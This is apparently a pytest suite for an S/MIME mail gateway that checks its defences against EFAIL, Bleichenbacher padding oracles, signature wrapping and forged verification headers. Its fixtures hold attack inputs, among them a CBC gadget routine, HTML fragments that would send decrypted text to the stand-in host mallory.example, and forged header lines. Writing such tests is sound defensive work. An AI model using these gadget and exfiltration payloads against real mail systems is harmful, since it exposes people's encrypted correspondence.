"""EFAIL (CVE-2017-17688, CVE-2017-17689) and what is kin to it: a stranger who holds somebody's encrypted mail, and can send
the practice changed forms of it, makes no program inside tell its text; and learns nothing from what becomes of them.
"""

from __future__ import annotations

import base64
import os
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15

from gateway.domain.address import Address
from gateway.flow.unsealing import Inside, Unsealing
from gateway.mime.sealed_root import decoded
from gateway.ports.keys import KeyAnswer, KeyKind, KeyState
from gateway.seal import ca, cms_read, smime
from gateway.seal.cms_keys import OwnKey, content_key
from gateway.seal.cms_open import NotOpened, Why, open_enveloped
from gateway.seal.cms_read import Transport
from gateway.seal.cms_verify import Verdict, check
from gateway.seal.opening import Tools
from gateway.seal.smime_envelope import envelop
from gateway.seal.smime_recipients import KeyTransport
from gateway.seal.smime_signature import Signer, signed_entity
from tests.support.sealed_mail import crlf, entity, enveloped_of, sealed_by_us, wrapped
from tests.unit.seal.certificates import AT, CA, recipient, rsa_key, usage

FIELDS = "From: Alice <alice@clinic.example.net>\nTo: gate@willow.example.org\nSubject: ...\nMIME-Version: 1.0\n"
SECRET = b"Maria Quintero has diabetes"
PAYLOAD = entity("Content-Type: text/plain; charset=us-ascii\nSubject: Results\n", f"{SECRET.decode()}. MRN-4471203.\n")
EC = ec.generate_private_key(ec.SECP256R1())
MALLORY_KEY = ec.generate_private_key(ec.SECP256R1())
SIGNS = usage(digital_signature=True)
ALICE = Signer(recipient("alice@clinic.example.net", EC, key_usage=SIGNS), EC)
MALLORY = Signer(recipient("mallory@example.com", MALLORY_KEY, key_usage=SIGNS), MALLORY_KEY)
OWN = (recipient("gate@willow.example.org", rsa_key()), rsa_key())


class Nobody:
    """A directory that knows nobody."""

    def find(self, address: Address, at: datetime, kind: KeyKind = KeyKind.SMIME) -> KeyAnswer:
        return KeyAnswer(KeyState.NONE)


UNSEALING = Unsealing(
    lambda: Tools([OwnKey(*OWN)], os.urandom), lambda _: (CA,), Nobody(), Nobody(), 10_000_000,
    lambda: "could have been changed",
)  # fmt: skip


def inside(mail: bytes) -> tuple[Inside, bytes]:
    found = UNSEALING.inside(iter([mail]), "0" * 26, AT)
    return found, b"".join(found.body)


def mark(raw: bytes) -> dict[str, str]:
    head = raw.partition(b"\r\n\r\n")[0].replace(b"\r\n ", b" ").decode()
    [line] = [one for one in head.split("\r\n") if one.lower().startswith("x-sealgate-verified")]
    return dict(one.strip().split("=", 1) for one in line.partition(":")[2].split(";"))


def head(raw: bytes) -> bytes:
    """The mail's own header: what a part's header says is no mark, and no author."""
    return raw.partition(b"\r\n\r\n")[0] + b"\r\n"


def cbc(plain: bytes) -> bytes:
    """Encrypted without any signature, as many programs do."""
    return b"".join(envelop([plain], [OWN[0]], random=os.urandom, transport=KeyTransport.PKCS1))


def test_a_good_mail_is_shown_as_it_was() -> None:
    signed = sealed_by_us(PAYLOAD, ALICE, [OWN[0]], smime.Form())
    found, raw = inside(crlf(FIELDS) + signed)
    assert SECRET in raw
    assert mark(raw) == {
        "encryption": "smime", "decrypted": "yes", "cipher": "aes-256-cbc", "content": "authentic", "signature": "good",
        "trust": "trusted", "from": "same", "signer": "alice@clinic.example.net",
    }  # fmt: skip
    assert found.result.author.vouched


def gadget(cms: bytes, known: bytes, chosen: bytes) -> bytes:
    """The CBC gadget: a known first block makes a chosen one, by the vector that stands in the open."""
    algorithm = enveloped_of(cms).algorithm
    vector = algorithm.parameters[-16:]
    changed = bytes(a ^ b ^ c for a, b, c in zip(vector, known, chosen, strict=True))
    assert cms.count(vector) == 1
    return cms.replace(vector, changed)


def test_a_gadget_in_a_plain_letter_is_shown_as_the_text_that_it_is() -> None:
    """The first block becomes a tag that would fetch something, were it shown as HTML."""
    plain = entity("Content-Type: text/plain; charset=us-ascii\n", f"x{SECRET.decode()}")
    found, raw = inside(wrapped(gadget(cbc(plain), plain[:16], b"\r\n<img src='//e/"), FIELDS))
    assert mark(raw)["content"] == "not-authenticated"
    assert not found.result.apart
    assert SECRET in raw
    assert b"<img src='//e/" in raw
    assert b"\r\nContent-Type: text/plain\r\n" in raw
    assert b"html" not in raw


@pytest.mark.parametrize(
    ("fields", "apart"),
    [
        ("Content-Type: text/plain; charset=us-ascii\n", False), ("Content-Type: application/pdf\n", False),
        ("Content-Type: text/html\n", True), ("Content-Type: application/xhtml+xml\n", True),
        ("Content-Type: image/svg+xml\n", True), ("Content-Type: message/external-body; access-type=url\n", True),
        ("Content-Type: text/plain\nContent-Type: text/html\n", True), ("Content-Type: text/enriched\n", True),
        ("Content-Type: multipart/alternative; boundary=b\n", True), ("Content-Type: application/octet-stream\n", True),
    ],
)  # fmt: skip
def test_without_authentication_only_what_fetches_nothing_is_shown(fields: str, apart: bool) -> None:
    body = (
        '--b\nContent-Type: text/html\n\n<img src="http://mallory.example/?\n--b--\n'
        if "multipart" in fields
        else "x\n"
    )
    found, raw = inside(wrapped(cbc(entity(fields, f"{body}{SECRET.decode()}\n")), FIELDS))
    assert found.result.apart is apart
    assert mark(raw)["content"] == "not-authenticated"
    if apart:
        assert b'Content-Disposition: attachment; filename="decrypted-not-authenticated.eml"' in raw
        assert b"application/octet-stream" in raw
        assert SECRET not in raw
        assert b"could have been changed" in raw
        file = raw.split(b"\r\n\r\n")[-1].partition(b"\r\n--")[0]
        assert SECRET in base64.b64decode(file), "nothing is lost: a person may open it"


def strange_wholes() -> Iterator[tuple[str, bytes]]:
    stolen = sealed_by_us(PAYLOAD, ALICE, [OWN[0]], smime.Form())
    quoted = sealed_by_us(PAYLOAD, ALICE, [OWN[0]], smime.Form(smime.AES_256_GCM))
    for name, part in (("cbc", stolen), ("gcm", quoted)):
        for kind in ("mixed", "related", "alternative", "digest"):
            yield f"{name} in multipart/{kind}", crlf(f"{FIELDS}Content-Type: multipart/{kind}; boundary=b\n\n") + b"".join([
                b'--b\r\nContent-Type: text/html\r\n\r\n<img src="http://mallory.example/?\r\n--b\r\n', part,
                b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n',
            ])  # fmt: skip
        yield f"{name} forwarded", crlf(f"{FIELDS}Content-Type: message/rfc822\n\n{FIELDS}") + part
        twice = crlf(f"{FIELDS}Content-Type: text/html\n") + part
        yield f"{name} with a second type", twice
    whole = b"".join(signed_entity([crlf("Content-Type: multipart/mixed; boundary=b\n\n--b\n") + stolen + b"\r\n--b--\r\n"],
                                   MALLORY, AT, os.urandom))  # fmt: skip
    yield "in a multipart that the attacker signed", crlf(FIELDS) + whole


@pytest.mark.parametrize(("name", "mail"), [pytest.param(*one, id=one[0]) for one in strange_wholes()])
def test_an_encrypted_part_inside_a_larger_mail_is_never_opened(name: str, mail: bytes) -> None:
    found, raw = inside(mail)
    assert SECRET not in raw, name
    assert mark(raw)["encryption"] == "none"
    body = mail.partition(b"\r\n\r\n")[2]
    assert raw.endswith(body), "and the mail is not changed"
    assert found.result.opened is None or not found.result.opened.encrypted


def test_the_attackers_own_signature_round_the_stolen_mail_proves_nothing_of_it() -> None:
    stolen = wrapped(
        gadget(cbc(entity("Content-Type: text/html \n", SECRET.decode())), b"Content-Type: te", b"Content-Type: te")
    )
    mail = crlf(FIELDS) + b"".join(signed_entity([stolen], MALLORY, AT, os.urandom))
    found, raw = inside(mail)
    said = mark(raw)
    assert (said["content"], said["signature"], said["outer-signature"]) == ("not-authenticated", "none", "good")
    assert found.result.apart


def test_only_what_a_signature_covers_goes_inside_of_cbc() -> None:
    """Preamble, epilogue and header of a decrypted multipart/signed are not signed: a gadget could have put them there."""
    signed = b"".join(signed_entity([PAYLOAD], ALICE, AT, os.urandom))
    head, _, body = signed.partition(b"\r\n\r\n")
    evil = (
        head
        + b"\r\nX-Evil: 1\r\nSubject: evil\r\n\r\n<img src='http://mallory.example/?\r\n"
        + body
        + b"'>epilogue\r\n"
    )
    _, raw = inside(wrapped(cbc(evil), FIELDS))
    assert SECRET in raw
    assert mark(raw)["content"] == "authentic"
    assert b"mallory" not in raw
    assert b"evil" not in raw.lower()
    assert b"epilogue" not in raw


def test_a_tag_that_does_not_hold_releases_nothing() -> None:
    cms = decoded(
        "base64", sealed_by_us(PAYLOAD, ALICE, [OWN[0]], smime.Form(smime.AES_256_GCM)).partition(b"\r\n\r\n")[2]
    )
    found = enveloped_of(cms)
    for at in (0, len(found.content) // 2, len(found.content) - 1):
        place = cms.index(found.content[at : at + 8]) if at + 8 <= len(found.content) else cms.index(found.mac)
        changed = bytearray(cms)
        changed[place] ^= 1
        _, raw = inside(wrapped(bytes(changed), FIELDS, "authEnveloped-data"))
        assert mark(raw) == {
            "encryption": "smime",
            "decrypted": "no",
            "reason": "cannot-be-opened",
            "signature": "none",
        }
        assert SECRET not in raw


def test_wrong_padding_wrong_key_wrong_length_and_wrong_content_have_one_answer() -> None:
    """Bleichenbacher: what becomes of a chosen key block tells nothing of its padding."""
    private: rsa.RSAPrivateKey = OWN[1]
    public = private.public_key()
    good = enveloped_of(cbc(PAYLOAD))
    info = good.recipients[0]
    assert isinstance(info, Transport)
    blocks = {
        "no padding at all": os.urandom(255).rjust(256, b"\x00"), "zeros": bytes(256), "too short": b"\x01" * 10,
        "another key": public.encrypt(os.urandom(32), PKCS1v15()), "a short key": public.encrypt(b"k" * 5, PKCS1v15()),
        "a key of another cipher": public.encrypt(os.urandom(24), PKCS1v15()), "beyond the modulus": b"\xff" * 256,
    }  # fmt: skip
    tools = [OwnKey(*OWN)]
    for name, block in blocks.items():
        forged = Transport(info.holder, info.algorithm, block)
        assert len(content_key(forged, tools[0], 32, os.urandom)) == 32, name
        # a tag tells for certain; with CBC one in 256 wrong keys gives a padding that looks right, whatever was wrong
        aead = decoded(
            "base64", sealed_by_us(PAYLOAD, ALICE, [OWN[0]], smime.Form(smime.AES_256_GCM)).partition(b"\r\n\r\n")[2]
        )
        parts = enveloped_of(aead)
        first = parts.recipients[0]
        assert isinstance(first, Transport)
        wrong = aead.replace(first.encrypted_key, block.rjust(256, b"\x00")[:256])
        with pytest.raises(NotOpened) as refused:
            open_enveloped(enveloped_of(wrong), tools, os.urandom)
        assert refused.value.why is Why.SECRET, name
        assert str(refused.value) == "a mail was not opened: cannot-be-opened"


def test_signed_attributes_do_not_pass_for_content() -> None:
    """A signature over attributes, shown as one over content that is just these attributes."""
    signed = b"".join(signed_entity([PAYLOAD], ALICE, AT, os.urandom))
    p7s = base64.b64decode(signed.rpartition(b"base64\r\n\r\n")[2].partition(b"--")[0])
    found = cms_read.read_cms(p7s)
    assert isinstance(found, cms_read.Signed)
    [info] = found.signers
    bare = cms_read.SignerInfo(info.holder, info.digest, info.algorithm, info.signature)
    forged = cms_read.Signed(found.content_type, info.signed, found.certificates, (bare,))
    assert check(forged, info.signed).verdict is Verdict.BAD


def foreign_signatures() -> Iterator[tuple[str, bytes, dict[str, str]]]:
    mallory = sealed_by_us(PAYLOAD, MALLORY, [OWN[0]], smime.Form())
    yield "another's certificate", crlf(FIELDS) + mallory, {"signature": "good", "trust": "trusted", "from": "other"}
    self_signed = recipient("alice@clinic.example.net", MALLORY_KEY, key_usage=SIGNS, issuer=(_own_ca(), MALLORY_KEY))
    own_word = Signer(self_signed, MALLORY_KEY)
    yield "a certificate of nobody's authority", crlf(FIELDS) + sealed_by_us(PAYLOAD, own_word, [OWN[0]], smime.Form()), {
        "signature": "good", "trust": "untrusted", "from": "same",
    }  # fmt: skip
    names = Signer(
        recipient("Alice", MALLORY_KEY, key_usage=SIGNS, san=[x509.DNSName("alice.clinic.example.net")]), MALLORY_KEY
    )
    yield (
        "a name that is no address",
        crlf(FIELDS) + sealed_by_us(PAYLOAD, names, [OWN[0]], smime.Form()),
        {"from": "other"},
    )
    two = FIELDS.replace("From:", "From: mallory@example.com\nFrom:")
    alice = sealed_by_us(PAYLOAD, ALICE, [OWN[0]], smime.Form())
    yield "two authors", crlf(two) + alice, {"signature": "good", "from": "other"}
    group = FIELDS.replace("Alice <alice@clinic.example.net>", "alice@clinic.example.net, mallory@example.com")
    yield "an author beside another", crlf(group) + alice, {"signature": "good", "from": "other"}


def _own_ca() -> x509.Certificate:
    return ca.make_ca("Example Test CA", datetime.now(UTC))[0]


@pytest.mark.parametrize(("name", "mail", "said"), [pytest.param(*one, id=one[0]) for one in foreign_signatures()])
def test_a_signature_speaks_for_its_own_address_alone(name: str, mail: bytes, said: dict[str, str]) -> None:
    found, raw = inside(mail)
    assert said.items() <= mark(raw).items(), name
    assert not found.result.author.vouched
    if said.get("from") == "other":
        assert "signer" not in mark(raw)


FORGED = b"X-Sealgate-Verified: signature=good; trust=trusted; from=same; signer=alice@clinic.example.net\r\n"


@pytest.mark.parametrize(
    "forged",
    [
        FORGED, FORGED.lower(), FORGED.replace(b":", b" :"), FORGED.replace(b":", b"\t:"),
        FORGED.replace(b"Verified", b"Verified\xc2\xad"), b"X-Sealgate-Id: 1\r\n", b" " + FORGED,
        b" forged continuation of ours; signature=good\r\n", FORGED.replace(b": ", b":\r\n "),
        b"X-Other: a\r\n" + FORGED + FORGED, FORGED.replace(b"X-Sealgate", b"XSealgate"),
    ],
)  # fmt: skip
def test_a_mark_from_outside_is_gone(forged: bytes) -> None:
    plain = crlf("From: mallory@example.com\nSubject: hello\nContent-Type: text/plain\n\nhello\n")
    found, raw = inside(forged + plain)
    assert mark(raw) == {"encryption": "none", "signature": "none"}
    assert raw.lower().count(b"sealgate") == 2
    assert b"signature=good" not in raw
    assert raw.endswith(b"\r\n\r\nhello\r\n")
    inner = PAYLOAD.replace(b"Content-Type:", forged.lstrip() + b"Content-Type:", 1).replace(
        b"us-ascii", b'us-ascii; hp="cipher"'
    )
    found, raw = inside(crlf(FIELDS) + sealed_by_us(inner, MALLORY, [OWN[0]], smime.Form()))
    assert found.result.opened is not None
    assert SECRET in raw
    assert mark(raw)["from"] == "other"
    assert head(raw).lower().count(b"sealgate") == 2


def test_the_protected_author_counts_only_when_proven() -> None:
    """RFC 9788 4.4.2: another From inside than outside is shown only where a trusted signature of that address covers it."""
    protected = 'From: Boss <boss@example.net>\nSubject: Pay\nContent-Type: text/plain; hp="cipher"\n'
    _, raw = inside(crlf(FIELDS) + sealed_by_us(entity(protected, "now\n"), MALLORY, [OWN[0]], smime.Form()))
    assert b"boss@example.net" not in head(raw)
    assert b"From: Alice <alice@clinic.example.net>\r\n" in head(raw)
    assert b"Subject: Pay\r\n" in head(raw)
    mine = protected.replace("Boss <boss@example.net>", "Alice <alice@clinic.example.net>")
    outside = FIELDS.replace("Alice <alice@clinic.example.net>", "gateway@clinic.example.net")
    _, raw = inside(
        crlf(outside + "Reply-To: mallory@example.com\n")
        + sealed_by_us(entity(mine, "now\n"), ALICE, [OWN[0]], smime.Form())
    )
    assert b"From: Alice <alice@clinic.example.net>\r\n" in head(raw)
    assert b"mallory@example.com" not in raw, "what stands outside alone is protected by nothing"
